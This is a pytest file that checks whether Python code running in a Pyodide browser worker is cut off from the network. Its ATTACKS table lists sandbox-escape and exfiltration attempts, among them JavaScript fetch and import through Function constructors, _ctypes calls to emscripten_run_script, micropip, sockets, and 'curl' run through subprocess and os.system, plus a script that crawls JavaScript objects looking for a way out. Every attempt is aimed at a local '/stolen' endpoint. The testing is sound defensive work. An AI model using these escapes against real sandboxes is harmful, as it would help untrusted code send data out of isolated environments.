"""In a worker of a real browser the reader's code reaches nothing outside, whatever it tries.

The same server gives the bundle and hears what is asked for: no attack is heard. A control is.
"""

from __future__ import annotations

import functools
import http.server
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser

from book.tools.live.bundle import OUT

WORKER = """
import { start } from "./live.mjs";
await fetch("/stolen?control");
const python = await start({ base: new URL("./", self.location) });
onmessage = async ({ data }) => postMessage(await python.run("c01_chain_rule/shift", data, 0));
postMessage("ready");
"""
PAGE = """<script type="module">
let worker;
const said = () => new Promise((resolve, reject) => {
  worker.onmessage = ({ data }) => resolve(data);
  worker.onerror = (event) => reject(new Error(event.message));
});
const fresh = () => {
  worker = new Worker("./worker.js", { type: "module" });
  return said();
};
window.ready = fresh();
window.ask = async (source) => {
  const answer = said();
  worker.postMessage(source);
  const report = await answer;
  if (report.state === "dead") await fresh();
  return report;
};
</script>"""

# Whatever of JavaScript can be had from Python, and all that hangs on it: each constructor is asked
# to make code, each function with a telling name to load the address.
WALK = """
import gc
from pyodide.ffi import JsProxy, create_proxy, to_js
todo = [to_js([1]), to_js({"a": 1}), to_js(b"x"), create_proxy(print)]
todo += [thing for thing in gc.get_objects() if isinstance(thing, JsProxy)]
seen = set()
made = ("return fetch('URL')", "return import('URL')", "return self")
while todo and len(seen) < 4000:
    thing = todo.pop(0)
    if not isinstance(thing, JsProxy) or thing.js_id in seen:
        continue
    seen.add(thing.js_id)
    for name in [n for n in dir(thing) if n[0] != "_"] + ["__proto__", "constructor"]:
        try:
            part = getattr(thing, name)
        except BaseException:
            continue
        todo.append(part)
        for text in made if name == "constructor" else ():
            for call in (part, getattr(part, "new", part)):
                try:
                    todo.append(call(text)())
                except BaseException:
                    pass
        telling = "fetch load import eval run open url socket lazy worker".split()
        if any(word in name.lower() for word in telling):
            for arguments in (("URL",), ("fetch('URL')",), ("/", "x", "URL", True, True)):
                try:
                    part(*arguments)
                except BaseException:
                    pass
print("seen", len(seen))
"""
ATTACKS = {
    "js": "from js import fetch\nfetch('URL')",
    "js again": "import importlib, sys\nsys.modules.pop('js', None)\n"
    "importlib.import_module('js').fetch('URL')",
    "pyodide_js": "import pyodide_js\npyodide_js.loadPackage('URL')",
    "run_js": "from pyodide.code import run_js\nrun_js(\"fetch('URL')\")",
    "run_js import": "from pyodide.code import run_js\nrun_js(\"import('URL')\")",
    "pyfetch": "import asyncio\nfrom pyodide.http import pyfetch\n"
    "asyncio.get_event_loop().run_until_complete(pyfetch('URL'))",
    "open_url": "from pyodide.http import open_url\nopen_url('URL')",
    "micropip": "import micropip\nmicropip.install('URL')",
    "urllib": "import urllib.request\nurllib.request.urlopen('URL')",
    "http": "from http.client import HTTPConnection\n"
    "HTTPConnection('HOST', PORT).request('GET', '/stolen')",
    "socket": "import socket\ns = socket.create_connection(('HOST', PORT))\n"
    "s.sendall(b'GET /stolen HTTP/1.0\\r\\n\\r\\n')",
    "constructor": "from pyodide.ffi import to_js\n"
    "to_js([1]).constructor.constructor(\"return fetch('URL')\")()",
    "constructor import": "from pyodide.ffi import to_js\n"
    "to_js([1]).constructor.constructor(\"return import('URL')\")()",
    "finders": "import sys\nfor f in sys.meta_path:\n"
    "    for p in getattr(f, 'jsproxies', {}).values():\n        p.fetch('URL')",
    "C": "import _ctypes\nh = _ctypes.dlopen(None, 0)\n"
    "_ctypes.call_function(_ctypes.dlsym(h, 'emscripten_run_script'), (b\"fetch('URL')\",))",
    "C import": "import _ctypes\nh = _ctypes.dlopen(None, 0)\n"
    "_ctypes.call_function(_ctypes.dlsym(h, 'emscripten_run_script'), (b\"import('URL')\",))",
    "numpy": "import numpy as np\nnp.load('URL')\nnp.lib.npyio.DataSource().open('URL')",
    "webbrowser": "import webbrowser\nwebbrowser.open('URL')",
    "process": "import subprocess\nsubprocess.run(['curl', 'URL'])",
    "os": "import os\nos.system('curl URL')",
    "walk": WALK,
}


@pytest.fixture(scope="module")
def heard() -> list[str]:
    """The paths that were asked for."""
    return []


@pytest.fixture(scope="module")
def bundle(heard: list[str]) -> Iterator[str]:
    assert (OUT / "manifest.json").exists(), (
        "there is no bundle: python -m book.tools.live says why"
    )

    class Handler(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            heard.append(self.path)
            name = self.path.partition("?")[0].lstrip("/")
            own = {"": ("text/html", PAGE), "worker.js": ("text/javascript", WORKER)}
            own["stolen"] = ("text/javascript", "")
            if name not in own:
                super().do_GET()
                return
            kind, text = own[name]
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.end_headers()
            self.wfile.write(text.encode())

    handler = functools.partial(Handler, directory=OUT)
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


@pytest.fixture(scope="module")
def ask(browser: Browser, bundle: str) -> Iterator[Callable[[str], dict[str, Any]]]:
    """Checks a source in the worker and gives the report."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(bundle)
    page.wait_for_function("window.ready")
    assert page.evaluate("window.ready") == "ready"
    yield lambda source: page.evaluate("source => window.ask(source)", source)
    context.close()


def test_what_is_asked_for_is_heard(ask, heard):
    assert heard.count("/stolen?control") == heard.count("/worker.js") == 1


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_reaches_nothing(ask, heard, bundle, name):
    host, _, port = bundle.removeprefix("http://").partition(":")
    source = ATTACKS[name].replace("URL", f"{bundle}/stolen?{name.replace(' ', '-')}")
    report = ask(source.replace("HOST", host).replace("PORT", port))
    assert report["state"] in ("failed", "dead"), report
    if name == "walk":
        assert report["output"].startswith("seen "), report
    ask("")  # what was begun has had its time
    controls = ["/stolen?control"] * heard.count("/worker.js")
    assert [path for path in heard if path.startswith("/stolen")] == controls


def test_after_all_attacks_answers_are_still_checked(ask):
    report = ask("shift = ...")
    assert report["state"] == "unwritten", report
